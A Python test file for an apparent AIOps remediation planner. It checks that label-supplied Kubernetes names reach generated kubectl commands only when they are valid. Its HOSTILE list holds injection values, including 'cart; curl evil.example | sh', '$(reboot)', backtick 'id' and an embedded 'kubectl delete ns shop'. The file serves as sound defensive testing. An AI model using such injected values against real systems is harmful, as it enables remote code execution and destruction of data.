"""Names: what labels hold is in no change and no command unless Kubernetes accepts it as a name (S3)."""

import shlex
import string
from dataclasses import replace

import pytest
from hypothesis import given
from hypothesis import strategies as st

from aiops.bootstrap.plugins import found, remediation
from aiops.core.ledger import Ledger
from aiops.core.plan import make_plan
from aiops.model import Container, Matcher, Mode, Playbook, PlaybookStep, SymptomMatcher, Target
from tests.unit.core.cases import CART, NOW, anomaly, facts, incident, workload
from tests.unit.engine.loop_cases import HELD

EVERY = Playbook(
    "everything",
    "1",
    Matcher(symptoms=(SymptomMatcher(signal="memory"),)),
    tuple(PlaybookStep(name) for name in sorted(found("aiops.remediations"))),
    mode=Mode.AUTO,
)
SIGNS = frozenset(string.ascii_lowercase + string.digits)
HOSTILE = [
    "cart; curl evil.example | sh",
    "cart$(reboot)",
    "cart`id`",
    "cart --all",
    "--all",
    "cart\nkubectl delete ns shop",
    "cart'",
    "{{ cart }}",
    "${cart}",
    "Cart",
    "cart.",
    "ca..rt",
    "cárt",
    "cart\u202e",
    "x" * 254,
]
TEXTS = st.text(max_size=20).filter(bool) | st.text(st.sampled_from("ab1-. ;$`'|/\n"), min_size=1)
HAPPY = ["cart", "c", "cart-1.v2", "0cart"]


def planned(target, container="app"):
    """Every rung of every remediation that applies to ``target``, with a container of that name."""
    known = workload(target, revisions=HELD, containers=(Container(container, "i:1", 512 * 2**20, 2**28),))
    happened = incident(anomaly(target), prime=target)
    return make_plan(happened, (EVERY,), facts(known), remediation, NOW, Ledger())


def accepted(name):
    """What Kubernetes takes as the name of an object: parts of a-z, 0-9 and inner -, joined by dots."""
    parts = name.split(".")
    return len(name) <= 253 and all(
        0 < len(part) <= 63 and set(part) <= {*SIGNS, "-"} and {part[0], part[-1]} <= SIGNS for part in parts
    )


@pytest.mark.parametrize("name", HAPPY)
def test_a_name_that_kubernetes_accepts_is_planned_for(name):
    """The positive control: three rungs fit, and each command names the target as one word."""
    plan = planned(replace(CART, name=name))
    assert {step.remediation for step in plan.steps} >= {"restart_rollout", "rollback", "raise_memory_limit"}
    for step in plan.steps:
        assert f"deployment/{name}" in shlex.split(step.command)


@pytest.mark.parametrize("name", HOSTILE)
@pytest.mark.parametrize("field", ["name", "namespace", "container"])
def test_a_name_that_it_does_not_accept_is_in_no_step_and_in_no_command(field, name):
    """S3."""
    target = CART if field == "container" else replace(CART, **{field: name})
    plan = planned(target, name if field == "container" else "app")
    if field == "container":
        assert "raise_memory_limit" not in {step.remediation for step in plan.steps}
        assert all(name not in step.command for step in plan.steps)
    else:
        assert plan.steps == ()
    assert any(f"cannot be the name of a {kind}" in " ".join(plan.skipped) for kind in (CART.kind, field))


@given(TEXTS | st.sampled_from([*HOSTILE, *HAPPY]))
def test_a_target_is_planned_for_exactly_where_kubernetes_would_accept_its_name(name):
    """S3: a command of an accepted name is the words of the template with the name in place."""
    plan = planned(replace(CART, name=name))
    assert bool(plan.steps) is accepted(name)
    usual = {step.remediation: shlex.split(step.command) for step in planned(CART).steps}
    for step in plan.steps:
        words = [word.replace(f"/{name}", "/cart") for word in shlex.split(step.command)]
        assert words == usual[step.remediation]


def test_a_kind_is_a_word():
    """S3: the label of a mapping may name the kind; no remediation knows one like this."""
    assert planned(Target("Deployment;x", "shop", "cart")).steps == ()
